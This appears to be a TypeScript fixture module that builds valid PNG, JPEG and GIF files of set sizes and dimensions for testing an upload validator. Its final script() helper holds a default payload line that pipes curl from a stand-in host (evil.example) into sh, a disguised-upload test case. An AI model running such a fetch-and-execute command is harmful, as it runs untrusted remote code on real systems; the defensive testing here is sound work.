import { deflateSync } from 'node:zlib';

// Structurally valid PNG, JPEG and GIF files of a chosen byte size and declared dimensions, for the upload
// tests (unit, db and e2e). The PNG is a real, decodable image whenever its pixels fit in 64 MB (a
// black greyscale picture, deflated); above that only one row of pixel data is written, which is enough
// for a validator that must refuse it from the header alone. Padding goes into a text chunk / comment
// segment / comment extension, the places real tools put metadata.

const KB = 1024;

function u32(n: number): Buffer {
  const b = Buffer.alloc(4);
  b.writeUInt32BE(n >>> 0);
  return b;
}

// CRC-32 (as PNG computes it), written out here so the fixtures do not depend on the code under test.
const CRC = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
function crc(bytes: Uint8Array): number {
  let c = 0xffffffff;
  for (const byte of bytes) c = CRC[(c ^ byte) & 0xff]! ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}

/** One PNG chunk with its length and CRC. */
export function pngChunk(type: string, data: Uint8Array = new Uint8Array()): Buffer {
  const typeAndData = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  return Buffer.concat([u32(data.length), typeAndData, u32(crc(typeAndData))]);
}

export const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

export function ihdr(width: number, height: number, depth = 8, colorType = 0): Buffer {
  const d = Buffer.alloc(13);
  d.writeUInt32BE(width, 0);
  d.writeUInt32BE(height, 4);
  d[8] = depth;
  d[9] = colorType;
  return pngChunk('IHDR', d);
}

/** A text chunk (keyword, NUL, Latin-1 text). */
export function textChunk(text: string, keyword = 'Comment'): Buffer {
  return pngChunk('tEXt', Buffer.from(`${keyword}\0${text}`, 'latin1'));
}

/** A valid PNG of `width` × `height` black pixels, padded with a tEXt chunk to exactly `size` bytes. */
export function png(opts: { width?: number; height?: number; size?: number; extraChunks?: Buffer[] } = {}): Buffer {
  const { width = 64, height = 48, size = 300 * KB, extraChunks = [] } = opts;
  const depth = width * height > 16_000_000 ? 1 : 8;
  const rowBytes = Math.ceil((width * depth) / 8) + 1; // filter byte + pixels
  const rows = rowBytes * height <= 64 * 1024 * 1024 ? height : 1;
  const idat = pngChunk('IDAT', deflateSync(Buffer.alloc(rowBytes * rows), { level: 9 }));
  const body = [ihdr(width, height, depth, 0), ...extraChunks];
  const base = PNG_SIGNATURE.length + body.reduce((n, c) => n + c.length, 0) + idat.length + 12;
  const padding = size - base - 12 - 'Comment\0'.length;
  if (padding < 0) throw new Error(`png(): ${size} bytes is too small for ${width}×${height}`);
  return Buffer.concat([PNG_SIGNATURE, ...body, textChunk('x'.repeat(padding)), idat, pngChunk('IEND')]);
}

// An 8 × 8 baseline JPEG as libjpeg writes it (DQT, SOF0, DHT, SOS, entropy-coded data, EOI).
const TINY_JPEG = Buffer.from(
  '/9j/2wBDAAgGBgcGBQgHBwcJCQgKDBQNDAsLDBkSEw8UHRofHh0aHBwgJC4nICIsIxwcKDcpLDAxNDQ0Hyc5PTgyPC4zNDL/2wBDAQkJCQwLDBgNDRgyIRwhMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjL/wAARCAAIAAgDASIAAhEBAxEB/8QAFQABAQAAAAAAAAAAAAAAAAAAAAX/xAAUEAEAAAAAAAAAAAAAAAAAAAAA/8QAFQEBAQAAAAAAAAAAAAAAAAAABQb/xAAUEQEAAAAAAAAAAAAAAAAAAAAA/9oADAMBAAIRAxEAPwCCAtQL/9k=',
  'base64',
);

/** A JPEG marker segment (0xFF, marker, length, data). */
export function jpegSegment(marker: number, data: Uint8Array): Buffer {
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(data.length + 2, 2);
  return Buffer.concat([head, data]);
}

/** COM segments holding `bytes` bytes in total (each segment at most 64 KB). */
function jpegPadding(bytes: number): Buffer[] {
  const out: Buffer[] = [];
  let left = bytes;
  while (left > 0) {
    let take = Math.min(left, 65_537); // 4 bytes of marker and length + up to 65,533 of data
    if (left - take > 0 && left - take < 4) take -= 4; // leave room for one more segment
    out.push(jpegSegment(0xfe, Buffer.alloc(take - 4, 0x20)));
    left -= take;
  }
  return out;
}

/** A valid JPEG declaring `width` × `height` (the 8 × 8 picture's frame header rewritten), `size` bytes. */
export function jpeg(opts: { width?: number; height?: number; size?: number; segments?: Buffer[] } = {}): Buffer {
  const { width = 8, height = 8, size = 300 * KB, segments = [] } = opts;
  const body = Buffer.from(TINY_JPEG.subarray(2));
  const sof = body.indexOf(Buffer.from([0xff, 0xc0]));
  body.writeUInt16BE(height, sof + 5);
  body.writeUInt16BE(width, sof + 7);
  const extra = Buffer.concat(segments);
  const padding = size - 2 - extra.length - body.length;
  if (padding !== 0 && padding < 4) throw new Error(`jpeg(): cannot pad to ${size} bytes`);
  return Buffer.concat([Buffer.from([0xff, 0xd8]), ...jpegPadding(padding), extra, body]);
}

/** Sub-blocks of at most 255 bytes, then the terminator. */
export function gifSubBlocks(data: Uint8Array): Buffer {
  const parts: Buffer[] = [];
  for (let i = 0; i < data.length; i += 255) {
    const piece = data.subarray(i, i + 255);
    parts.push(Buffer.from([piece.length]), Buffer.from(piece));
  }
  return Buffer.concat([...parts, Buffer.from([0])]);
}

/** One image: descriptor, LZW code size 2 and the data of a single black pixel. */
export function gifFrame(width: number, height: number): Buffer {
  const d = Buffer.alloc(10);
  d[0] = 0x2c;
  d.writeUInt16LE(width, 5);
  d.writeUInt16LE(height, 7);
  return Buffer.concat([d, Buffer.from([0x02, 0x02, 0x44, 0x01, 0x00])]);
}

/** A GIF89a with a two-colour palette and the given frames, padded with a comment extension to `size`. */
export function gif(opts: { width?: number; height?: number; size?: number; frames?: Buffer[]; extensions?: Buffer[] } = {}): Buffer {
  const { width = 1, height = 1, size = 300 * KB, extensions = [] } = opts;
  const frames = opts.frames ?? [gifFrame(width, height)];
  const head = Buffer.alloc(13);
  head.write('GIF89a', 0, 'latin1');
  head.writeUInt16LE(width, 6);
  head.writeUInt16LE(height, 8);
  head[10] = 0x80; // global colour table of 2 entries
  const palette = Buffer.from([0, 0, 0, 255, 255, 255]);
  const fixed = head.length + palette.length + extensions.reduce((n, e) => n + e.length, 0) + frames.reduce((n, f) => n + f.length, 0) + 1;
  // A comment of n bytes takes n + ceil(n / 255) + 3 bytes (introducer, label, lengths, terminator).
  let n = Math.max(0, size - fixed - 3);
  while (n > 0 && n + Math.ceil(n / 255) + 3 > size - fixed) n--;
  if (n + Math.ceil(n / 255) + 3 !== size - fixed) throw new Error(`gif(): cannot pad to ${size} bytes`);
  const comment = Buffer.concat([Buffer.from([0x21, 0xfe]), gifSubBlocks(Buffer.alloc(n, 0x20))]);
  return Buffer.concat([head, palette, comment, ...extensions, ...frames, Buffer.from([0x3b])]);
}

/** A plain-text payload of `size` bytes (a "script" to rename). */
export function script(size = 300 * KB, text = '#!/bin/sh\ncurl http://evil.example/x | sh\n'): Buffer {
  return Buffer.from(text.padEnd(size, ' '), 'latin1');
}
